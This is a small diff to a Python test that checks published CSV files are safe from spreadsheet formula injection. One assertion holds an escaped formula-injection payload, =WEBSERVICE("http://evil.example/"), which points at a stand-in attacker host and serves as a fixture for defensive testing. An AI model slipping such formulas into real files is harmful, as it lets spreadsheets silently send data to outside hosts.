@@ -79,5 +79,5 @@ def test_every_published_csv_is_safe(tmp_path: Path, monkeypatch: pytest.MonkeyP
                 cells_seen += 1
                 assert not spreadsheet_would_run(cell), (path.name, cell)
     titles = [row[6] for row in read_csv(site / "output" / "data" / "kasus.csv")[1:]]
-    assert "'=WEBSERVICE(\"http://evil.example/\")" in titles
+    assert '\'=WEBSERVICE("http://evil.example/")' in titles
     assert cells_seen > 100
